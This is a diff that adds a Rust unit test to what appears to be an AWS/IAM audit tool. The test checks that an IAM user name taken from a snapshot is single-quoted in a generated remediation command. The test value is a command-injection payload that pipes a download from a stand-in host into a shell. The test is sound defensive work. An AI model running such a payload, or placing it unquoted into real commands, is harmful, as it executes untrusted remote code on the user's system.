@@ -1188,3 +1188,24 @@ fn quotas_of_an_opus_model_are_found_by_its_family_and_version() {
         &["L-0PUS41TP) is 2000000", "L-0PUS41RQ) is 400"],
     );
 }
+
+#[test]
+fn a_remediation_command_quotes_the_user_name_it_takes_from_the_snapshot() {
+    // Issue 24: an IAM user name reached the copy-paste command unquoted. IAM user names allow
+    // only `+=,.@_-` besides letters and digits (IAM API reference, CreateUser UserName), but a
+    // snapshot is input and may hold anything.
+    let mut snapshot = ready();
+    keys_mut(&mut snapshot).keys.push(ApiKey {
+        user_name: "x; curl evil.example | sh".into(),
+        status: "Suspended".into(),
+        ..active_key()
+    });
+    let findings = run(KEYS, &snapshot, &profile());
+    let f = only(&findings);
+    assert!(
+        f.remediation
+            .contains("--user-name 'x; curl evil.example | sh' --service-name"),
+        "{}",
+        f.remediation
+    );
+}
